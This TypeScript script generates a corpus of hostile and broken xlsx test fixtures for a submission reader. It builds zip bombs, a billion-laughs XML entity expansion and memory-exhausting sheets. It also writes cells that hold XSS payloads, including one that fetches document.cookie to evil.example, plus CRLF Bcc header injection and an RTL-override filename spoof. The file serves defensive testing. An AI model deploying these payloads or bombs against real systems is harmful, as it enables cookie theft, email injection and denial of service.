/**
 * Writes the corpus of hostile and broken submissions in test/fixtures/bad/ (`npm run
 * fixtures`). Each file is what some office or some attacker could really send; the test of
 * each is in test/adapters/xlsx/bad-files.test.ts, and `npm run chaos` tries them all.
 *
 * Three kinds: files that are not readable workbooks (random bytes, truncated, CSV, zip bombs,
 * entity expansion, a million rows…), written as raw zips; memory bombs, small raw zips
 * whose XML the read budget refuses (`npm run fixtures -- NAME…` writes
 * only those named); and readable submissions with
 * hostile content (formulas, HTML, CR/LF, bidi overrides, emoji, 30,000-character cells),
 * made from the example's complete submission with exceljs. The two fixtures that need
 * other tools (encrypted, legacy .xls) are described in test/fixtures/README.md.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { SHEET_NAMES } from '../sheets-templates/submission-template.js';
import { exampleConfigPath, packageRoot } from '../src/adapters/local/package-files.js';

const OUT = join(packageRoot(), 'test', 'fixtures', 'bad');
const BASE = join(exampleConfigPath(), '..', 'submissions', 'engagement-01.xlsx');

// ---------------------------------------------------------------------------------------------
// A minimal zip writer: deflated entries whose directory can be made to lie.

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = (CRC_TABLE[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

export interface ZipInput {
  name: string;
  content: Buffer | string;
  /** The uncompressed size the headers declare, when it must differ from the truth. */
  declaredSize?: number;
}

/** A zip archive of deflated entries, with a fixed date (reproducible bytes). */
export function zipArchive(inputs: ZipInput[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const input of inputs) {
    const data = Buffer.isBuffer(input.content) ? input.content : Buffer.from(input.content);
    const packed = deflateRawSync(data, { level: 9 });
    const name = Buffer.from(input.name);
    const size = input.declaredSize ?? data.length;
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x5921, 12); // 2024-09-01
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt16LE(0x5921, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(inputs.length, 8);
  end.writeUInt16LE(inputs.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';
const PACKAGE_RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const SPREADSHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

/** The parts of a workbook with one sheet (`sheetXml`), and shared strings when given. */
export function workbookParts(
  sheetName: string,
  sheetXml: Buffer | string,
  options: {
    sharedStrings?: Buffer | string;
    declaredSheetSize?: number;
    /** The workbook's `<sheet>` elements, when not the one sheet named `sheetName`. */
    sheets?: string;
  } = {},
): ZipInput[] {
  const ns = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const strings = options.sharedStrings
    ? `<Relationship Id="rId2" Type="${ns}/sharedStrings" Target="sharedStrings.xml"/>`
    : '';
  return [
    {
      name: '[Content_Types].xml',
      content:
        `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/xl/workbook.xml" ContentType="${SPREADSHEET_TYPE}.sheet.main+xml"/>` +
        `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="${SPREADSHEET_TYPE}.worksheet+xml"/>` +
        '</Types>',
    },
    {
      name: '_rels/.rels',
      content:
        `${XML_DECLARATION}<Relationships xmlns="${PACKAGE_RELATIONSHIPS}">` +
        `<Relationship Id="rId1" Type="${ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      content:
        `${XML_DECLARATION}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
        `xmlns:r="${ns}"><sheets>${options.sheets ?? `<sheet name="${sheetName}" sheetId="1" r:id="rId1"/>`}` +
        '</sheets></workbook>',
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content:
        `${XML_DECLARATION}<Relationships xmlns="${PACKAGE_RELATIONSHIPS}">` +
        `<Relationship Id="rId1" Type="${ns}/worksheet" Target="worksheets/sheet1.xml"/>${strings}</Relationships>`,
    },
    ...(options.sharedStrings
      ? [{ name: 'xl/sharedStrings.xml', content: options.sharedStrings }]
      : []),
    {
      name: 'xl/worksheets/sheet1.xml',
      content: sheetXml,
      ...(options.declaredSheetSize ? { declaredSize: options.declaredSheetSize } : {}),
    },
  ];
}

const SHEET_OPEN =
  `${XML_DECLARATION}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` +
  '<sheetData>';
const SHEET_CLOSE = '</sheetData></worksheet>';

/** A sheet XML of `bytes` bytes that deflates to almost nothing (spaces between rows). */
function bombSheet(bytes: number): Buffer {
  const sheet = Buffer.alloc(bytes, 0x20);
  sheet.write(SHEET_OPEN, 0);
  sheet.write(SHEET_CLOSE, bytes - SHEET_CLOSE.length);
  return sheet;
}

/** A small deterministic generator (the same random bytes at every run). */
function randomBytes(count: number, seed: number): Buffer {
  let state = seed;
  const out = Buffer.alloc(count);
  for (let i = 0; i < count; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    out[i] = state & 0xff;
  }
  return out;
}

const ACTIONS = SHEET_NAMES.actions;

/** The files that are not readable workbooks, with the bytes of each. */
async function brokenFiles(): Promise<Record<string, Buffer>> {
  const base = await readFile(BASE);
  const billionLaughs =
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">' +
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">' +
    '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">' +
    '<!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>' +
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&i;</t></si></sst>';
  return {
    'random-bytes.xlsx': randomBytes(4096, 0x2019),
    'truncated.xlsx': base.subarray(0, Math.floor(base.length * 0.55)),
    'csv-renamed.xlsx': Buffer.from(
      "Réf.;Type d'action;Intitulé;Date prévue\nA1;Atelier;Atelier de lancement;20/11/2018\n",
    ),
    // 150 MB declared: refused from the zip directory, before anything is inflated.
    'zip-bomb.xlsx': zipArchive(workbookParts(ACTIONS, bombSheet(150 * 1024 * 1024))),
    // The same, with a directory that says 4 KB: inflating stops at 4 KB.
    'zip-bomb-lying.xlsx': zipArchive(
      workbookParts(ACTIONS, bombSheet(150 * 1024 * 1024), { declaredSheetSize: 4096 }),
    ),
    'xml-entity-expansion.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`,
        {
          sharedStrings: billionLaughs,
        },
      ),
    ),
    // Rows without numbers are legal OOXML: a million of them deflate to a few kilobytes.
    'million-rows.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        `${SHEET_OPEN}${'<row><c><v>1</v></c></row>'.repeat(1_000_000)}${SHEET_CLOSE}`,
      ),
    ),
    'too-many-columns.xlsx': zipArchive(
      workbookParts(ACTIONS, `${SHEET_OPEN}<row r="1">${cellsOfRow(1, 150)}</row>${SHEET_CLOSE}`),
    ),
    // Within the row and column limits, but 260,000 filled cells: more than memory allows.
    'too-many-cells.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        `${SHEET_OPEN}${`<row>${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(2_600)}${SHEET_CLOSE}`,
      ),
    ),
    'cell-over-32767.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`,
        {
          sharedStrings:
            `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
            `count="1" uniqueCount="1"><si><t>${'x'.repeat(40_000)}</t></si></sst>`,
        },
      ),
    ),
  };
}

// ---------------------------------------------------------------------------------------------
// Memory bombs: small files whose XML, well within the unpacked limit, would cost far more
// memory or time than any submission. Each must be refused by the read budget (limits.ts).

/** `head`, then `item` `count` times, then `tail`, as bytes (no string of the whole made). */
function repeated(head: string, item: string, count: number, tail: string): Buffer {
  const body = Buffer.alloc(Buffer.byteLength(item) * count, item);
  return Buffer.concat([Buffer.from(head), body, Buffer.from(tail)]);
}

const SST_OPEN = `${XML_DECLARATION}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`;
const ONE_STRING_CELL = `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`;
const MiB = 1024 * 1024;

/** The files whose XML would exhaust a function's memory or time, read without a budget. */
function bombFiles(): Record<string, Buffer> {
  return {
    // 4.5 million short strings (81 MB): read whole, then kept, they took half a gigabyte.
    'shared-strings-bomb.xlsx': zipArchive(
      workbookParts(ACTIONS, ONE_STRING_CELL, {
        sharedStrings: repeated(SST_OPEN, '<si><t>ab</t></si>', 4_500_000, '</sst>'),
      }),
    ),
    // 3,000 strings of 30,000 Arabic letters, each within a cell's limit: 90 million characters.
    'too-much-text.xlsx': zipArchive(
      workbookParts(ACTIONS, ONE_STRING_CELL, {
        sharedStrings: repeated(SST_OPEN, `<si><t>${'ب'.repeat(15_000)}</t></si>`, 3_000, '</sst>'),
      }),
    ),
    // Two million elements each inside the one before.
    'nesting-bomb.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        Buffer.concat([
          repeated(SHEET_OPEN, '<a>', 2_000_000, ''),
          repeated('', '</a>', 2_000_000, SHEET_CLOSE),
        ]),
      ),
    ),
    // Twenty million empty cells in one row: nothing to keep, everything to read.
    'empty-cells-bomb.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        repeated(`${SHEET_OPEN}<row r="1">`, '<c/>', 20_000_000, `</row>${SHEET_CLOSE}`),
      ),
    ),
    // Twelve million empty rows.
    'empty-rows-bomb.xlsx': zipArchive(
      workbookParts(ACTIONS, repeated(SHEET_OPEN, '<row/>', 12_000_000, SHEET_CLOSE)),
    ),
    // One cell tag carrying nine million attributes (45 MB).
    'attribute-bomb.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        repeated(
          `${SHEET_OPEN}<row r="1"><c r="A1"`,
          ' a=""',
          9_000_000,
          `><v>1</v></c></row>${SHEET_CLOSE}`,
        ),
      ),
    ),
    // One cell whose value is a 90-million-digit number.
    'giant-text.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        repeated(
          `${SHEET_OPEN}<row r="1"><c r="A1"><v>`,
          '1',
          90 * MiB,
          `</v></c></row>${SHEET_CLOSE}`,
        ),
      ),
    ),
    // A 90 MB comment: never closed until the end of the part.
    'giant-comment.xlsx': zipArchive(
      workbookParts(ACTIONS, repeated(`${SHEET_OPEN}<!--`, '-', 90 * MiB, `-->${SHEET_CLOSE}`)),
    ),
    // Two million hyperlinks, each on the same cell.
    'hyperlink-bomb.xlsx': zipArchive(
      workbookParts(
        ACTIONS,
        repeated(
          `${SHEET_OPEN.replace('<worksheet ', `<worksheet xmlns:r="${RELATIONSHIPS_NS}" `)}` +
            '<row r="1"><c r="A1"><v>1</v></c></row></sheetData><hyperlinks>',
          '<hyperlink ref="A1" r:id="rId1"/>',
          2_000_000,
          '</hyperlinks></worksheet>',
        ),
      ),
    ),
    // 200,000 sheets, all the same part.
    'many-sheets.xlsx': zipArchive(
      workbookParts(ACTIONS, ONE_STRING_CELL.replace('t="s"', ''), {
        sheets: '<sheet name="F" sheetId="1" r:id="rId1"/>'.repeat(200_000),
      }),
    ),
    // 500 sheets named as the submission's, all the same 4 MB part of blanks: 2 GB to
    // inflate, 4 MB at a time.
    'same-part-again.xlsx': zipArchive(
      workbookParts(ACTIONS, repeated(SHEET_OPEN, ' ', 4 * MiB, SHEET_CLOSE), {
        sheets: `<sheet name="${ACTIONS}" sheetId="1" r:id="rId1"/>`.repeat(500),
      }),
    ),
    // Three million cell styles.
    'styles-bomb.xlsx': zipArchive(
      withStyles(
        workbookParts(ACTIONS, ONE_STRING_CELL.replace('t="s"', '')),
        repeated(
          `${XML_DECLARATION}<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>`,
          '<xf numFmtId="14"/>',
          3_000_000,
          '</cellXfs></styleSheet>',
        ),
      ),
    ),
  };
}

const RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The parts with a styles part added, and the workbook's relationship to it. */
function withStyles(parts: ZipInput[], styles: Buffer): ZipInput[] {
  return [
    ...parts.map((part) =>
      part.name === 'xl/_rels/workbook.xml.rels'
        ? {
            ...part,
            content: String(part.content).replace(
              '</Relationships>',
              `<Relationship Id="rIdS" Type="${RELATIONSHIPS_NS}/styles" Target="styles.xml"/></Relationships>`,
            ),
          }
        : part,
    ),
    { name: 'xl/styles.xml', content: styles },
  ];
}

/** Row `row`'s first `count` cells, each holding its column's index. */
function cellsOfRow(row: number, count: number): string {
  return Array.from(
    { length: count },
    (_, i) => `<c r="${columnName(i + 1)}${row}"><v>${i}</v></c>`,
  ).join('');
}

function columnName(n: number): string {
  let name = '';
  for (let c = n; c > 0; c = Math.floor((c - 1) / 26))
    name = String.fromCharCode(65 + ((c - 1) % 26)) + name;
  return name;
}

// ---------------------------------------------------------------------------------------------
// Readable submissions with hostile content, from the example's complete one.

/** Loads the base submission and declares it as commitment `id`. */
async function baseWorkbook(id: number): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(BASE);
  workbook.getWorksheet(SHEET_NAMES.engagement)!.getCell('B1').value = id;
  workbook.created = new Date('2019-01-07T09:00:00Z');
  workbook.modified = new Date('2019-01-07T09:00:00Z');
  return workbook;
}

type Edit = (sheets: {
  engagement: ExcelJS.Worksheet;
  actions: ExcelJS.Worksheet;
  milestones: ExcelJS.Worksheet;
}) => void;

/** Commitment numbers of the content fixtures (a test configuration lists them). */
export const CONTENT_FIXTURES: Record<string, { id: number; edit: Edit }> = {
  'formulas-everywhere.xlsx': {
    id: 101,
    edit: ({ engagement, actions, milestones }) => {
      // Every value a formula with its cached result, as a tool that computes would save it.
      engagement.getCell('B1').value = { formula: '100+1', result: 101 };
      for (const ws of [actions, milestones]) {
        for (let r = 2; r <= ws.actualRowCount; r++) {
          ws.getRow(r).eachCell((cell) => {
            const value = cell.value;
            if (value === null || (typeof value === 'object' && !(value instanceof Date))) return;
            const formula =
              typeof value === 'number'
                ? String(value)
                : value instanceof Date
                  ? `DATE(${value.getUTCFullYear()},${value.getUTCMonth() + 1},${value.getUTCDate()})`
                  : `"${String(value).replace(/"/g, '""')}"`;
            cell.value = { formula, result: value } as ExcelJS.CellFormulaValue;
          });
        }
      }
      // And one saved by a tool that does not compute: no cached value.
      actions.getCell('L3').value = { formula: 'L2*10' } as ExcelJS.CellFormulaValue;
    },
  },
  'html-script.xlsx': {
    id: 102,
    edit: ({ actions, milestones }) => {
      actions.getCell('C2').value = '<script>alert("ogp")</script>Atelier <b>de lancement</b>';
      actions.getCell('C3').value =
        '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">';
      actions.getCell('Q2').value = '=HYPERLINK("https://evil.example/","Cliquez ici")';
      // An error quotes what was typed: the feedback email must show it, escaped.
      actions.getCell('F3').value = '<script>alert(1)</script>';
      milestones.getCell('B2').value =
        '</td></tr></table><iframe src="https://evil.example/"></iframe>';
    },
  },
  'crlf-names-emails.xlsx': {
    id: 103,
    edit: ({ engagement, actions }) => {
      engagement.getCell('B4').value = 'Nadia El Idrissi\r\nBcc: tous@evil.example';
      engagement.getCell('B5').value = 'nadia.idrissi@example.org\r\nBcc: tous@evil.example';
      // Line breaks inside a title are legitimate: kept.
      actions.getCell('C2').value =
        'Atelier de lancement\r\nSubject: faux sujet\r\n\r\ncorps injecté';
    },
  },
  'rtl-override.xlsx': {
    id: 104,
    edit: ({ actions }) => {
      // Shows as "Atelier exe.pdf" but holds "Atelier fdp.exe".
      actions.getCell('C2').value = 'Atelier \u202efdp.exe\u202c';
      // Arabic text, which needs no override: nothing to say.
      actions.getCell('C3').value = 'ورشة عمل حول الحق في الحصول على المعلومات';
    },
  },
  'emoji.xlsx': {
    id: 105,
    edit: ({ actions, milestones }) => {
      actions.getCell('C2').value = 'Atelier 🎉 droit d’accès 👩🏽‍💻 🇲🇦';
      actions.getCell('D2').value = 'Jeunes 🧑‍🎓, Société civile 🤝';
      milestones.getCell('B2').value = 'Campagne nationale 📣 (phase 1️⃣)';
    },
  },
  'long-cells.xlsx': {
    id: 106,
    edit: ({ actions }) => {
      const long = (seed: string) => seed.repeat(Math.ceil(30_000 / seed.length)).slice(0, 30_000);
      actions.getCell('Q2').value = long('Compte rendu détaillé de l’atelier. ');
      actions.getCell('C3').value = long('Intitulé interminable ');
    },
  },
};

/** Writes every fixture, or only those named on the command line. */
async function main(only: string[]): Promise<void> {
  const wanted = (name: string) => only.length === 0 || only.includes(name);
  for (const [name, bytes] of Object.entries({ ...(await brokenFiles()), ...bombFiles() })) {
    if (!wanted(name)) continue;
    await writeFile(join(OUT, name), bytes);
    process.stdout.write(`${name}: ${bytes.length} octets\n`);
  }
  for (const [name, { id, edit }] of Object.entries(CONTENT_FIXTURES)) {
    if (!wanted(name)) continue;
    const workbook = await baseWorkbook(id);
    edit({
      engagement: workbook.getWorksheet(SHEET_NAMES.engagement)!,
      actions: workbook.getWorksheet(SHEET_NAMES.actions)!,
      milestones: workbook.getWorksheet(SHEET_NAMES.milestones)!,
    });
    await workbook.xlsx.writeFile(join(OUT, name));
    process.stdout.write(`${name}\n`);
  }
}

if (import.meta.url === `file://${process.argv[1]}`) await main(process.argv.slice(2));
